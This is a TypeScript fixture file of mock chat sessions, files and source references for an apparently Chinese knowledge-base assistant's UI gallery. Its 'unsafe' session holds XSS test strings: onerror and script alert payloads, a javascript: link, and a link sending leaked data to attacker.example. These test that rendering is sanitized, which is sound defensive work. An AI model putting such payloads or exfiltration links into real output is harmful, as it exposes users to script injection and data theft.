// Fixture data for the flow gallery: every assistant and file state, no network, no database.
import type {
  AssistantBootstrap,
  AssistantStatus,
  ConversationSummary,
  DocumentContent,
  ExternalProviderStatus,
  ExternalRefBinding,
  KnowledgeFile,
  KnowledgeSummary,
  ListingItem,
  SourceReference,
} from "@/components/api/types";
import type { ChatMessage, ChatSession } from "@/components/assistant/chat-reducer";
import type { ParseProgress, UploadItem } from "@/components/workspace/upload-store";

const NOW = "2026-05-21T10:00:00.000Z";
export const FIXTURE_KB_ID = "kb-fixture";

export function kb(overrides: Partial<KnowledgeSummary> = {}): KnowledgeSummary {
  return {
    id: FIXTURE_KB_ID,
    name: "示例知识库",
    description: "投标文件与政策资料",
    remark: null,
    role: "owner",
    file_count: 3,
    ready_file_count: 3,
    indexing_file_count: 0,
    failed_file_count: 0,
    total_file_size: 2_480_000,
    created_at: NOW,
    updated_at: NOW,
    ...overrides,
  };
}

export const KNOWLEDGES: KnowledgeSummary[] = [kb(), kb({ id: "kb-2", name: "智慧城市政策", file_count: 12 })];

export function bootstrap(status: AssistantStatus, counts: Partial<AssistantBootstrap["knowledge"]> = {}): AssistantBootstrap {
  return {
    knowledge: { id: FIXTURE_KB_ID, name: "示例知识库", file_count: 3, ready_file_count: status === "ready" ? 3 : 0, indexing_file_count: status === "indexing" ? 3 : 0, failed_file_count: status === "failed" ? 3 : 0, ...counts },
    assistant_status: status,
    input_enabled: status === "ready",
    max_question_length: 200,
  };
}

export const PDF_REF: SourceReference = {
  ref_id: "ref_1",
  index: 1,
  file_id: "file-pdf",
  file_name: "2023市场分析报告.pdf",
  page_start: 8,
  page_end: 9,
  heading_path: "第二章 / 市场规模",
  quote: "2023 年智慧城市市场规模达到 2.4 万亿元，同比增长 15.3%，其中政务数字化与城市治理占比超过四成。",
  score: 0.86,
  chunk_id: "chunk-8",
  source_type: "knowledge-base",
  source_id: "chunk-8",
  source_uri: null,
  source_name: "示例知识库",
};

export const DOCX_REF: SourceReference = {
  ...PDF_REF,
  ref_id: "ref_2",
  index: 2,
  file_id: "file-docx",
  file_name: "智慧城市政策.docx",
  page_start: null,
  page_end: null,
  heading_path: "政策要求 / 实施范围",
  quote: "各地应在 2025 年底前完成城市运行管理服务平台建设，实现市、区两级平台互联互通。",
  score: 0.74,
  chunk_id: "chunk-31",
};

export const EXTERNAL_REF: SourceReference = {
  ref_id: "ref_3",
  index: 3,
  file_id: null,
  file_name: null,
  page_start: null,
  page_end: null,
  heading_path: null,
  quote: "外部知识源：城市治理白皮书摘要，提到数据共享与跨部门协同的三项原则。",
  score: 0.61,
  chunk_id: null,
  source_type: "acme-wiki",
  source_id: "doc-7781",
  source_uri: "acme-wiki://space/governance/doc-7781",
  source_name: "Acme Wiki · 城市治理",
};

const ANSWER =
  "根据知识库资料，智慧城市相关要点如下：\n\n1. **市场规模**：2023 年市场规模达到 2.4 万亿元，同比增长 15.3% [1]。\n2. **建设要求**：各地需在 2025 年底前完成城市运行管理服务平台建设 [2]。\n3. **协同原则**：外部资料强调数据共享与跨部门协同 [3]。\n\n如需更细的条款，可以点击引用编号查看原文。";

// Ids must be identical on the server render and on hydration, so they are derived from the
// state's name and position, never from a module-level counter.
function builder(scope: string) {
  let i = 0;
  const next = (p: string) => `${scope}-${p}${i++}`;
  return {
    user: (content: string): ChatMessage => ({ id: next("u"), role: "user", content, references: [], phase: "done" }),
    assistant: (partial: Partial<ChatMessage>): ChatMessage => ({ id: next("a"), role: "assistant", content: "", references: [], phase: "done", question: Q, ...partial }),
  };
}

const Q = "智慧城市相关政策有哪些？";

export function session(messages: ChatMessage[], activeId: string | null = null): ChatSession {
  return { conversationId: "conv-1", messages, activeId };
}

export const SESSIONS = {
  empty: (): ChatSession => ({ conversationId: null, messages: [], activeId: null }),
  retrieving: () => {
    const b = builder("retrieving");
    const a = b.assistant({ phase: "retrieving" });
    return session([b.user(Q), a], a.id);
  },
  streaming: () => {
    const b = builder("streaming");
    const a = b.assistant({ phase: "streaming", references: [PDF_REF, DOCX_REF], content: ANSWER.slice(0, 70) });
    return session([b.user(Q), a], a.id);
  },
  answered: (scope = "answered") => {
    const b = builder(scope);
    return session([b.user(Q), b.assistant({ content: ANSWER, references: [PDF_REF, DOCX_REF, EXTERNAL_REF], engine: "model", relatedQuestions: ["是否需要按政策发布时间筛选？", "2025 年的建设目标有哪些？"] })]);
  },
  extractive: () => {
    const b = builder("extractive");
    return session([b.user(Q), b.assistant({ content: "> 2023 年智慧城市市场规模达到 2.4 万亿元，同比增长 15.3% [1]\n\n> 各地应在 2025 年底前完成城市运行管理服务平台建设 [2]", references: [PDF_REF, DOCX_REF], engine: "extractive" })]);
  },
  noContext: () => {
    const b = builder("no-context");
    const q = "量子计算机的散热方案是什么？";
    return session([b.user(q), b.assistant({ phase: "error", question: q, error: { code: "NO_RELEVANT_CONTEXT", message: "未在当前知识库中找到相关内容" } })]);
  },
  modelError: () => {
    const b = builder("model-error");
    return session([b.user(Q), b.assistant({ phase: "error", error: { code: "MODEL_UNAVAILABLE", message: "upstream model returned 503" }, references: [PDF_REF] })]);
  },
  stopped: () => {
    const b = builder("stopped");
    return session([b.user(Q), b.assistant({ phase: "stopped", finishReason: "aborted", content: ANSWER.slice(0, 90), references: [PDF_REF, DOCX_REF] })]);
  },
  interrupted: () => {
    const b = builder("interrupted");
    return session([b.user(Q), b.assistant({ phase: "stopped", finishReason: "interrupted", content: ANSWER.slice(0, 60), references: [PDF_REF] })]);
  },
  long: () => {
    const b = builder("long");
    const refs: SourceReference[] = Array.from({ length: 8 }, (_, i) => ({
      ...PDF_REF,
      ref_id: `ref_${i + 1}`,
      index: i + 1,
      page_start: 3 + i * 4,
      page_end: 4 + i * 4,
      heading_path: `第${i + 1}章 / 要点`,
      score: Math.round((0.92 - i * 0.05) * 100) / 100,
      quote: `第 ${i + 1} 条引用的原文片段。`.repeat(i % 3 === 0 ? 12 : 2),
    }));
    const content = Array.from({ length: 8 }, (_, i) => `### 要点 ${i + 1}\n\n这是关于第 ${i + 1} 个主题的详细说明，包含数据、条款与结论，便于标书编写时直接引用 [${i + 1}]。另外参见 [${((i + 3) % 8) + 1}]。`).join("\n\n");
    return session([b.user("请全面总结知识库中的所有要点"), b.assistant({ content, references: refs, engine: "model" })]);
  },
  unsafe: () => {
    const b = builder("unsafe");
    return session([
      b.user('<img src=x onerror="alert(1)"> 这个文件说了什么？'),
      b.assistant({
        content: '文件名是 `<img src=x onerror=alert(1)>`，内容如下：<img src=x onerror="alert(1)"> <script>alert(2)</script> [危险链接](javascript:alert(3)) 与 [正常链接](https://example.com) [查看详情](https://attacker.example/collect?leak=十五天年假) ![远程图片](https://example.com/a.png) [1]',
        references: [{ ...PDF_REF, file_name: '<img src=x onerror="alert(1)">.pdf', quote: '<script>alert("quote")</script> 原文片段' }],
      }),
    ]);
  },
};

export const CONVERSATIONS: ConversationSummary[] = [
  { id: "conv-1", title: "智慧城市政策检索", message_count: 8, last_message_at: NOW, created_at: NOW },
  { id: "conv-2", title: "市场规模数据", message_count: 4, last_message_at: "2026-05-20T08:30:00.000Z", created_at: "2026-05-20T08:00:00.000Z" },
  { id: "conv-3", title: "", message_count: 2, last_message_at: "2026-05-18T16:12:00.000Z", created_at: "2026-05-18T16:10:00.000Z" },
];

function file(overrides: Partial<KnowledgeFile> & { id: string }): KnowledgeFile {
  return {
    name: "文件.pdf",
    file_type: "pdf",
    size: 1_204_000,
    status: "success",
    embedding_status: "success",
    page_count: 24,
    chunk_count: 86,
    grep_indexed: true,
    error_code: null,
    error_message: null,
    created_at: NOW,
    updated_at: NOW,
    ...overrides,
  };
}

export function fileStates(): { files: KnowledgeFile[]; progress: Record<string, ParseProgress>; uploads: UploadItem[] } {
  const files = [
    file({ id: "fx-file-0", name: "2023市场分析报告.pdf" }),
    file({ id: "fx-file-1", name: "智慧城市政策.docx", file_type: "docx", page_count: null, chunk_count: 31, embedding_status: "skipped" }),
    file({ id: "fx-file-2", name: "招标公告.pdf", status: "queued", embedding_status: "pending", chunk_count: 0, page_count: null }),
    file({ id: "fx-file-3", name: "技术规范.pdf", status: "parsing", embedding_status: "pending", chunk_count: 0 }),
    file({ id: "fx-file-4", name: "评分办法.md", file_type: "md", status: "chunking", embedding_status: "pending", chunk_count: 0, page_count: null }),
    file({ id: "fx-file-5", name: "合同条款.docx", file_type: "docx", status: "embedding", embedding_status: "running", chunk_count: 40, page_count: null }),
    file({ id: "fx-file-6", name: "附件清单.html", file_type: "html", status: "indexing", embedding_status: "success", chunk_count: 12, page_count: null }),
    file({ id: "fx-file-7", name: "扫描件.pdf", status: "failed", embedding_status: "pending", chunk_count: 0, page_count: 3, error_code: "FILE_NO_TEXT", error_message: "PDF 中没有可提取的文字（可能是扫描件），请上传带文字层的 PDF。" }),
  ];
  const stages: [number, ParseProgress][] = [
    [2, { stage: "queued", percent: 0 }],
    [3, { stage: "parsing", percent: 35, message: "第 9 / 24 页" }],
    [4, { stage: "chunking", percent: 55 }],
    [5, { stage: "embedding", percent: 72, message: "28 / 40" }],
    [6, { stage: "indexing", percent: 92 }],
  ];
  const progress: Record<string, ParseProgress> = {};
  for (const [i, p] of stages) progress[files[i]!.id] = p;
  const uploads: UploadItem[] = [
    { id: "up-1", kbId: FIXTURE_KB_ID, name: "年度预算表.pdf", size: 5_300_000, progress: 0.42, phase: "uploading" },
    { id: "up-2", kbId: FIXTURE_KB_ID, name: "超大扫描件.pdf", size: 210_000_000, progress: 0, phase: "error", error: { code: "FILE_TOO_LARGE", message: "File exceeds the 50 MB limit." } },
    { id: "up-3", kbId: FIXTURE_KB_ID, name: "演示文稿.pptx", size: 880_000, progress: 0, phase: "error", error: { code: "FILE_TYPE_UNSUPPORTED", message: "PPTX is not supported." } },
    { id: "up-4", kbId: FIXTURE_KB_ID, name: "2023市场分析报告.pdf", size: 1_204_000, progress: 0, phase: "error", error: { code: "FILE_DUPLICATE", message: "The same file already exists." } },
  ];
  return { files, progress, uploads };
}

export const PDF_DOCUMENT: DocumentContent = {
  file: file({ id: "file-pdf", name: "2023市场分析报告.pdf", page_count: 24 }),
  pages: [
    { page: 7, text: "第一章 概述\n\n本报告基于公开数据与行业访谈，对智慧城市市场进行分析。" },
    { page: 8, text: "第二章 市场规模\n\n2023 年智慧城市市场规模达到 2.4 万亿元，同比增长 15.3%，\n其中政务数字化与城市治理占比超过四成。东部地区投入最高。" },
    { page: 9, text: "2.2 细分领域\n\n智慧交通、智慧医疗与城市安全是增长最快的三个领域。" },
  ],
  chunks: [],
};

// External knowledge sources (issue 18): a turn with every source status, bound sources and
// provider listings for the knowledge entry.
export const EXT_DOC_REF: SourceReference = {
  ref_id: "ref_2",
  index: 2,
  file_id: null,
  file_name: "Release checklist",
  page_start: null,
  page_end: null,
  heading_path: null,
  quote: "Every release needs two approvers and a rollback plan before the deploy window opens.",
  score: 0.8,
  chunk_id: null,
  source_type: "docs",
  source_id: "doc-release",
  source_uri: "ext://docs/doc-release",
  source_name: "Release checklist",
  locator: "handbook/-/doc-release#p1",
  metadata: { source_id: "handbook", words: 14 },
};

export const EXTERNAL_SOURCES_TURN: ChatSession = (() => {
  const b = builder("external-turn");
  return session([
    b.user("发布需要几个审批人？"),
    b.assistant({
      question: "发布需要几个审批人？",
      content: "发布需要两名审批人并准备回滚方案 [1][2]。",
      references: [{ ...PDF_REF, quote: "发布流程要求两名审批人签字。" }, EXT_DOC_REF],
      engine: "model",
      sources: [
        { source_type: "knowledge-base", status: "ok", count: 1 },
        { source_type: "docs", status: "ok", count: 1 },
        { source_type: "team-wiki", status: "timeout", count: 0 },
        { source_type: "notes", status: "empty", count: 0 },
        { source_type: "tickets", status: "error", count: 0 },
      ],
    }),
  ]);
})();

export const EXTERNAL_PROVIDERS: ExternalProviderStatus[] = [
  { key: "knowledge-base", label: "Knowledge base", builtin: true, capabilities: { filters: true, scores: true, citations: false, list_documents: true }, openable: false, health: "ready", checked_at: NOW },
  { key: "docs", label: "Docs", builtin: false, capabilities: { filters: false, scores: true, citations: true, list_documents: true }, openable: true, health: "ready", checked_at: NOW },
  { key: "notes", label: "Notes", builtin: false, capabilities: { filters: false, scores: true, citations: true, list_documents: false }, openable: false, health: "ready", checked_at: NOW },
  { key: "team-wiki", label: "Team wiki", builtin: false, capabilities: { filters: false, scores: true, citations: true, list_documents: false }, openable: false, health: "unavailable", checked_at: NOW },
];

export const BOUND_DOCUMENT: ExternalRefBinding = {
  provider: "docs",
  mode: "explicit",
  id: "handbook",
  name: "Team handbook",
  scope: "",
  target_type: "document",
  node_id: "document:doc-release",
  document_id: "doc-release",
  parent_id: null,
  target_name: "Release checklist",
};

export const LISTING_ITEMS: ListingItem[] = [
  { id: "folder-ops", name: "Operations", type: "folder", source_id: "handbook", parent_id: null, node_id: "folder-ops", metadata: {} },
  { id: "doc-release", name: "Release checklist", type: "document", source_id: "handbook", parent_id: null, node_id: "document:doc-release", metadata: {} },
  { id: "doc-style", name: "Style guide", type: "document", source_id: "handbook", parent_id: null, node_id: "document:doc-style", metadata: {} },
];
